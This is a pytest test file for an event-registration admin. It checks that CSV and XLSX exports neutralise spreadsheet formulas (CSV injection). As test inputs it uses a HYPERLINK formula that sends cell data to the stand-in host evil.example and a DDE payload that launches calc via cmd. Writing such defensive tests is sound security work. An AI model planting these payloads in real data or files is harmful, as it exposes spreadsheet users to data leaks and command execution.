"""Exports of the registration admin cannot smuggle formulas into the
organisers' spreadsheets (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from registration.models import Question
from tests.factories import RegistrationFactory

pytestmark = pytest.mark.django_db

INDEX = "wagtailsnippets_registration_registration:list"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_csv_export_neutralises_formulas_in_fields_and_answers(organiser_client, event):
    question = Question.objects.create(event=event, label="Topics")
    registration = RegistrationFactory(event=event, organisation=HYPERLINK, position="-1+1", last_name="O'Neil")
    registration.answers.create(question=question, value="@SUM(A1)")

    response = organiser_client.get(reverse(INDEX), {"export": "csv"})

    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert (row["Organisation"], row["Position"], row["Last name"], row["Topics"]) == (
        f"'{HYPERLINK}",
        "'-1+1",
        "O'Neil",
        "'@SUM(A1)",
    )


def test_csv_export_neutralises_a_formula_heading(organiser_client, event):
    Question.objects.create(event=event, label="=1+1")
    RegistrationFactory(event=event)

    response = organiser_client.get(reverse(INDEX), {"export": "csv"})

    headings = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert headings[-1] == "'=1+1"


def test_xlsx_export_neutralises_formulas(organiser_client, event):
    RegistrationFactory(event=event, organisation=HYPERLINK)

    response = organiser_client.get(reverse(INDEX), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headings.index("Organisation") + 1)
    assert (cell.value, cell.data_type) == (f"'{HYPERLINK}", "s")


def test_scan_log_export_neutralises_formulas(organiser_client, event):
    from registration.checkin.models import Scan

    Scan.objects.create(event=event, code="=cmd|' /C calc'!A0", result="invalid", scanned_at="2026-06-24T08:00:00Z")

    response = organiser_client.get(reverse("scan_log:index"), {"export": "csv"})

    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["Code"] == "'=cmd|' /C calc'!A0"
